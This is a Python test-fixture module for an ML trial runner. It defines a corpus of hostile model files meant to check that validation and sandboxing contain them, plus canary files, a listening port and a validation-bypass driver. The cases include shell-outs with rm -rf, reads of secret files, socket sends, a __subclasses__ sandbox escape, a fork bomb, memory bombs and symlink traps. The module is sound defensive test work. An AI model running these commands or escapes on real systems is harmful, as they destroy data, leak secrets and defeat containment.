"""A corpus of hostile and broken model files, for any runner's tests: each must be rejected by
validation or contained by the runner, recorded with a clear reason, and change nothing outside
the trial's directory.

The API, all runner-agnostic:

- :data:`CASES`: the :class:`HostileCase` list (shell-outs, reads and writes outside the trial
  directory, sockets, ``__import__``/``getattr``/``__subclasses__`` tricks, an infinite loop, a fork
  bomb, memory bombs, floods of output, ``sys.exit``/``SystemExit``, a segfault through ctypes, a
  file-size bomb, planting symlinks for the runner to follow, killing the parent, NaN losses, wrong output shapes, ...). ``case.code`` is a
  template: ``case.render(canaries)`` fills in the canary paths, the port and the secret.
- ``case.rejected_by_validation``: the static validation refuses it (the harness re-validates, so
  a runner reports ``invalid_code``); ``case.reason``: a regex (searched, case-insensitive) that the
  recorded ``"<error class>: <message>"`` must match when the trial runs normally;
  ``case.bypass_reason``: the same with validation bypassed (``None``: the trial may even
  complete; containment is what counts then).
- :class:`Canaries`: a context manager that plants canaries outside the trial directory (a
  directory in ``$HOME``, one in ``/tmp``, one beside the trial directory, each holding a file with a
  secret), listens on a TCP port on 127.0.0.1 and puts the secret in the caller's environment;
  ``canaries.violations(trial_dir)`` lists what changed outside, any connection to the port and
  any copy of the secret in the trial directory (output log, result) — empty means contained.
- :func:`write_unvalidated_python`: a driver script that runs the trial harness with validation
  turned off, for a runner's ``python`` setting, so a test proves containment inside exactly the
  sandbox a trial gets for code that validation would have refused (defence in depth). It is a
  test seam: no production setting turns validation off.
- :func:`write_data`, :func:`make_job`, :func:`model_code`, :data:`INPUT_SHAPE`, :data:`NUM_CLASSES`:
  a tiny data set, a :class:`~neuromosaic_core.interfaces.TrialJob` and a working model (8 -> 16 -> 3)
  matching the corpus's models.
- :func:`recorded`: ``"<error class>: <message>"`` of a failed result, what the regexes match.

A runner's test, in outline::

    @pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
    def test_hostile(case, tmp_path):
        with Canaries(tmp_path / "outside") as canaries:
            job = make_job(tmp_path, write_data(tmp_path / "data.npz"), case.render(canaries))
            result = asyncio.run(MyRunner(...).run_trial(job))
            assert re.search(case.reason, recorded(result), re.I)
            assert canaries.violations(Path(job.result_path).parent) == []

Never run the corpus with validation bypassed on a runner without isolation (no bubblewrap, no
container): the code would do what it says, as the user running the tests.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import stat
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import attrs

from neuromosaic_core.interfaces import TrialJob
from neuromosaic_core.model import TrainingSettings, TrialResult

INPUT_SHAPE = (8,)
NUM_CLASSES = 3
#: The environment variable that carries the secret (a stand-in for an API key).
SECRET_ENV = "NEUROMOSAIC_HOSTILE_SECRET"  # noqa: S105 - the name of a variable, not a secret

HEAD = "import torch\nfrom torch import nn\n"
LAYERS = "        self.body = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 3))\n"
FORWARD = "    def forward(self, x):\n        return self.body(x)\n"


def model_code(init: str = "", forward: str = FORWARD, head: str = HEAD) -> str:
    """A working model (8 -> 16 -> 3) with ``init`` run in ``__init__`` and ``forward`` as given."""
    body = "".join(f"        {line}\n" for line in init.strip("\n").splitlines()) if init else ""
    return f"{head}\n\nclass Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n{body}{LAYERS}\n{forward}"


@attrs.frozen
class HostileCase:
    """One hostile or broken model file; see the module docstring."""

    name: str
    code: str
    rejected_by_validation: bool
    reason: str
    bypass_reason: str | None = None
    description: str = ""

    def render(self, canaries: Canaries | None = None) -> str:
        """The code with ``{home}``, ``{tmp}``, ``{outside}``, ``{port}`` and ``{secret_file}`` filled in."""
        values = canaries.placeholders() if canaries else {"home": "/nonexistent/home", "tmp": "/nonexistent/tmp",
                                                            "outside": "/nonexistent/outside", "port": "9",
                                                            "secret_file": "/nonexistent/home/secret.txt"}
        code = self.code
        for key, value in values.items():
            code = code.replace("{" + key + "}", value)
        return code


INVALID = r"invalid_code: \["

CASES: list[HostileCase] = [
    HostileCase(
        "shell_out_os_system",
        model_code('os.system("echo pwned > {home}/pwned; echo pwned > {tmp}/pwned; rm -rf {outside}")', head="import os\n" + HEAD),
        True, INVALID + r"import\].*'os'", None,
        "runs shell commands that write into $HOME and /tmp and delete a directory beside the trial's",
    ),
    HostileCase(
        "shell_out_subprocess",
        model_code('subprocess.run(["sh", "-c", "echo pwned > {outside}/pwned"], check=True)', head="import subprocess\n" + HEAD),
        True, INVALID + r"import\]", r"non-zero exit status|No such file|Permission denied|Read-only",
        "a shell-out through subprocess that must fail to write beside the trial directory",
    ),
    HostileCase(
        "read_secret_outside",
        model_code('print(open("{secret_file}").read())'),
        True, INVALID + r"builtin\].*'open'", r"No such file|Permission denied",
        "reads a secret file in $HOME and prints it into the trial's log",
    ),
    HostileCase(
        "write_outside",
        model_code('open("{outside}/pwned", "w").write("pwned")\nopen("{home}/pwned", "w").write("pwned")'),
        True, INVALID + r"builtin\]", r"Read-only file system|Permission denied|No such file",
        "writes files beside the trial directory and in $HOME",
    ),
    HostileCase(
        "delete_outside",
        model_code('shutil.rmtree("{outside}")\nshutil.rmtree("{home}")', head="import shutil\n" + HEAD),
        True, INVALID + r"import\]", r"Read-only file system|Permission denied|No such file",
        "deletes the canary directories",
    ),
    HostileCase(
        "socket_to_host",
        model_code('s = socket.create_connection(("127.0.0.1", {port}), timeout=5)\ns.sendall(b"exfiltrated")',
             head="import socket\n" + HEAD),
        True, INVALID + r"import\].*'socket'", r"Connection refused|unreachable|timed out",
        "connects to a service listening on the host's loopback",
    ),
    HostileCase(
        "socket_to_internet",
        model_code('socket.create_connection(("1.1.1.1", 443), timeout=5)', head="import socket\n" + HEAD),
        True, INVALID + r"import\]", r"unreachable|timed out|refused",
        "opens a connection to the internet",
    ),
    HostileCase(
        "dunder_import",
        model_code('__import__("os").system("echo pwned > {outside}/pwned")'),
        True, INVALID + r"(builtin|attribute)\]", None,
        "__import__ to reach os without an import statement",
    ),
    HostileCase(
        "getattr_trick",
        model_code('getattr(torch, "sa" + "ve")(torch.zeros(1), "{outside}/pwned.pt")'),
        True, INVALID + r"builtin\].*getattr", r"Read-only file system|Permission denied|No such file|parent directory",
        "getattr with a computed name to reach torch.save",
    ),
    HostileCase(
        "subclasses_escape",
        model_code('for c in ().__class__.__base__.__subclasses__():\n'
             '    if c.__name__ == "_wrap_close":\n'
             '        c.__init__.__globals__["system"]("echo pwned > {outside}/pwned")'),
        True, INVALID + r"dunder\]", None,
        "the classic object.__subclasses__() escape to os.system",
    ),
    HostileCase(
        "torch_load_pickle",
        model_code('self.state = torch.load("{secret_file}")'),
        True, INVALID + r"attribute\].*load", r"No such file|Permission denied|Errno",
        "torch.load: unpickling runs code",
    ),
    HostileCase(
        "infinite_loop",
        model_code(forward="    def forward(self, x):\n        while x.numel() > 0:\n            x = x + 1\n        return self.body(x)\n"),
        False, r"timeout", r"timeout",
        "never returns from forward: the wall-clock limit must kill it",
    ),
    HostileCase(
        "fork_bomb",
        model_code('while True:\n    if os.fork() == 0:\n        time.sleep(1000)', head="import os\nimport time\n" + HEAD),
        True, INVALID + r"import\]", r"too many processes|Resource temporarily unavailable|timeout|BlockingIOError",
        "forks until the process limit stops it",
    ),
    HostileCase(
        "memory_bomb_at_once",
        model_code("self.hoard = torch.ones(2**36)"),
        False, r"out of memory", r"out of memory",
        "asks for 256 GB in one allocation",
    ),
    HostileCase(
        "memory_bomb_growing",
        model_code("self.hoard = []\nfor _ in range(8192):\n    self.hoard.append(torch.ones(2**25))"),
        False, r"out of memory", r"out of memory",
        "grows by 128 MB at a time (touched memory, up to 1 TB) until the limit stops it",
    ),
    HostileCase(
        "output_flood",
        model_code(forward='    def forward(self, x):\n        for _ in range(4096):\n            print("x" * 1000000)\n'
             '        return self.body(x)\n'),
        False, r"too much output", r"too much output",
        "prints 4 GB from forward",
    ),
    HostileCase(
        "system_exit",
        model_code("raise SystemExit(3)"),
        False, r"exit code 3", r"exit code 3",
        "SystemExit passes through 'except Exception': the process ends without a result",
    ),
    HostileCase(
        "sys_exit_zero",
        model_code("sys.exit(0)", head="import sys\n" + HEAD),
        True, INVALID + r"import\].*'sys'", r"exit code 0",
        "exits with status 0 before writing a result (a silent exit is still a failure)",
    ),
    HostileCase(
        "segfault_ctypes",
        model_code("ctypes.string_at(0)", head="import ctypes\n" + HEAD),
        True, INVALID + r"import\].*'ctypes'", r"signal 11|SIGSEGV|exit code 139",
        "dereferences a null pointer through ctypes",
    ),
    HostileCase(
        "file_size_bomb",
        model_code('with open("big.bin", "wb") as f:\n    for _ in range(4096):\n        f.write(b"x" * 1048576)'),
        True, INVALID + r"builtin\].*'open'", r"signal 25|SIGXFSZ|File too large|file size|No space",
        "writes 4 GB into the trial directory",
    ),
    HostileCase(
        "symlink_trap",
        model_code('for name in ("output.log", "result.json", "job.json"):\n'
                   '    if os.path.lexists(name):\n'
                   '        os.remove(name)\n'
                   '    os.symlink("{outside}/secret.txt", name)\n'
                   'os.symlink("{outside}/keep", "weights.pt")\n'
                   "raise SystemExit(0)", head="import os\n" + HEAD),
        True, INVALID + r"import\]", r"unreadable result|without writing its result",
        "plants links in its directory to files outside, for the runner (root, in CI) to write or read through",
    ),
    HostileCase(
        "kill_parent",
        model_code("os.kill(os.getppid(), 9)", head="import os\n" + HEAD),
        True, INVALID + r"import\]", r"Operation not permitted|signal 9|exit code",
        "kills the process that started it",
    ),
    HostileCase(
        "read_environment",
        model_code('print({k: v for k, v in os.environ.items()})\nraise RuntimeError("environment dumped")',
             head="import os\n" + HEAD),
        True, INVALID + r"import\]", r"environment dumped",
        "prints its environment into the log, looking for API keys",
    ),
    HostileCase(
        "nan_loss",
        model_code(forward="    def forward(self, x):\n        return self.body(x) * float('nan')\n"),
        False, r"nan_loss", r"nan_loss",
        "a model whose loss is NaN",
    ),
    HostileCase(
        "wrong_output_shape",
        model_code().replace("nn.Linear(16, 3)", "nn.Linear(16, 4)"),
        False, r"shape_mismatch: forward returned \(2, 4\), expected \(2, 3\)", r"shape_mismatch",
        "four outputs for three classes",
    ),
    HostileCase(
        "infinite_recursion",
        model_code(forward="    def forward(self, x):\n        return self.forward(x)\n"),
        False, r"RecursionError|maximum recursion", r"RecursionError|maximum recursion",
        "forward calls itself forever",
    ),
    HostileCase(
        "no_forward",
        HEAD + "\n\nclass Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n",
        True, INVALID + r"missing_forward\]", r"NotImplementedError|forward|shape_mismatch",
        "a module without forward",
    ),
]

CASES_BY_NAME = {case.name: case for case in CASES}


# -- canaries ---------------------------------------------------------------------------------


class Canaries:
    """Canaries outside the trial directory; see the module docstring. ``outside``: a directory
    beside the trial directory (created), e.g. ``tmp_path / "outside"``."""

    def __init__(self, outside: Path) -> None:
        token = uuid.uuid4().hex[:12]
        self.secret = f"neuromosaic-canary-secret-{token}"
        self.home = Path.home() / f".neuromosaic-hostile-canary-{token}"
        self.tmp = Path(tempfile.gettempdir()) / f"neuromosaic-hostile-canary-{token}"
        self.outside = Path(outside)
        self.dirs = (self.home, self.tmp, self.outside)
        self.connections = 0
        self._server: socket.socket | None = None
        self._before: dict[str, str] = {}
        self._saved_env: str | None = None

    def placeholders(self) -> dict[str, str]:
        return {"home": str(self.home), "tmp": str(self.tmp), "outside": str(self.outside),
                "port": str(self.port), "secret_file": str(self.home / "secret.txt")}

    @property
    def port(self) -> int:
        return self._server.getsockname()[1] if self._server else 9

    def __enter__(self) -> Canaries:
        for d in self.dirs:
            d.mkdir(parents=True, exist_ok=True)
            (d / "secret.txt").write_text(self.secret + "\n")
            (d / "keep").mkdir(exist_ok=True)
            (d / "keep" / "data.txt").write_text("canary\n")
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        threading.Thread(target=self._accept, name="canary-listener", daemon=True).start()
        self._saved_env = os.environ.get(SECRET_ENV)
        os.environ[SECRET_ENV] = self.secret
        self._before = self.snapshot()
        return self

    def _accept(self) -> None:
        server = self._server
        while server is not None and server.fileno() != -1:
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()

    def snapshot(self) -> dict[str, str]:
        """Path -> a digest of type, mode, owner and content, for every entry under the canaries."""
        state: dict[str, str] = {}
        for d in self.dirs:
            if not d.exists():
                continue
            for root, dirs, files in os.walk(d):
                for name in [*dirs, *files, ""]:
                    path = os.path.join(root, name) if name else root
                    st = os.lstat(path)
                    digest = f"{stat.S_IFMT(st.st_mode)}:{st.st_mode:o}:{st.st_uid}:{st.st_size}"
                    if stat.S_ISREG(st.st_mode):
                        digest += ":" + hashlib.sha256(Path(path).read_bytes()).hexdigest()
                    state[path] = digest
        return state

    def violations(self, trial_dir: Path | None = None) -> list[str]:
        """What the trial changed or leaked: empty when it was contained."""
        after = self.snapshot()
        found = [f"changed: {p}" for p in sorted(set(self._before) | set(after)) if self._before.get(p) != after.get(p)]
        if self.connections:
            found.append(f"{self.connections} connection(s) reached the host's port {self.port}")
        if trial_dir is not None and Path(trial_dir).exists():
            for root, _, files in os.walk(trial_dir):
                for name in files:
                    path = Path(root, name)
                    if path.is_symlink():
                        continue  # a link is not a copy; what it points at is checked above
                    try:
                        if self.secret.encode() in path.read_bytes():
                            found.append(f"the secret leaked into {path}")
                    except OSError:
                        continue
        return found

    def __exit__(self, *exc: object) -> None:
        if self._server is not None:
            self._server.close()
            self._server = None
        if self._saved_env is None:
            os.environ.pop(SECRET_ENV, None)
        else:
            os.environ[SECRET_ENV] = self._saved_env
        for d in (self.home, self.tmp):
            shutil.rmtree(d, ignore_errors=True)


# -- running a case ---------------------------------------------------------------------------

UNVALIDATED_DRIVER = """\
import runpy, sys
import neuromosaic_core.harness.training as training
training.validate_code = lambda code: None  # test seam: validation off, so the sandbox alone must contain the code
args = sys.argv[1:]
if len(args) < 2 or args[0] != "-m":
    sys.exit("usage: python-unvalidated -m MODULE ARGS...")
sys.argv = [args[1], *args[2:]]
runpy.run_module(args[1], run_name="__main__", alter_sys=True)
"""
#: What the harness prints once it has loaded the job: proof that a bypassed case really ran.
HARNESS_STARTED = "neuromosaic harness: trial"


def write_unvalidated_python(directory: Path, python: str = sys.executable) -> Path:
    """Write ``directory/python-unvalidated``: called like ``python -m MODULE ARGS`` (the harness, or
    a pool worker that runs it), it runs the module with the harness's code validation turned off.
    Point a runner's ``python`` setting at it."""
    directory.mkdir(parents=True, exist_ok=True)
    assert "'" not in UNVALIDATED_DRIVER  # noqa: S101 - it is quoted for sh below
    script = directory / "python-unvalidated"  # one file: the only path the sandbox must expose is argv[0]
    script.write_text(f"#!/bin/sh\nexec '{python}' -c '{UNVALIDATED_DRIVER}' \"$@\"\n")
    script.chmod(0o755)
    return script


def write_data(path: Path, n: int = 300, seed: int = 0) -> Path:
    """Three well-separated clusters in 8 dimensions, as the ``.npz`` the harness reads."""
    import numpy as np

    rng = np.random.default_rng(seed)
    centers = rng.normal(size=(NUM_CLASSES, INPUT_SHAPE[0])) * 3
    y = rng.integers(0, NUM_CLASSES, size=n)
    x = (centers[y] + rng.normal(size=(n, INPUT_SHAPE[0]))).astype(np.float32)
    split = int(n * 0.8)
    path.parent.mkdir(parents=True, exist_ok=True)
    np.savez(path, x_train=x[:split], y_train=y[:split], x_test=x[split:], y_test=y[split:])
    return path


def make_job(root: Path, data: Path, code: str, trial: int = 1, timeout: float = 60.0, **extra: object) -> TrialJob:
    """A TrialJob for ``code`` in ``root/trial-<n>/`` (code and weights beside it, as the orchestrator lays them out)."""
    code_path = root / "code" / f"trial-{trial:04d}.py"
    code_path.parent.mkdir(parents=True, exist_ok=True)
    code_path.write_text(code)
    return TrialJob(
        trial_id=trial, experiment="hostile", code_path=str(code_path), data_path=str(data),
        result_path=str(root / "trials" / f"trial-{trial:04d}" / "result.json"), input_shape=INPUT_SHAPE,
        num_classes=NUM_CLASSES, training=TrainingSettings(epochs=2, batch_size=32, patience=2),
        weights_path=str(root / "weights" / f"trial-{trial:04d}.pt"), timeout_s=timeout, **extra,  # type: ignore[arg-type]
    )


def recorded(result: TrialResult) -> str:
    """``"<error class>: <message>"`` of a failed result (``"ok"`` for a completed one)."""
    if result.error is None:
        return "ok"
    return f"{result.error.error_class.value}: {result.error.message}"
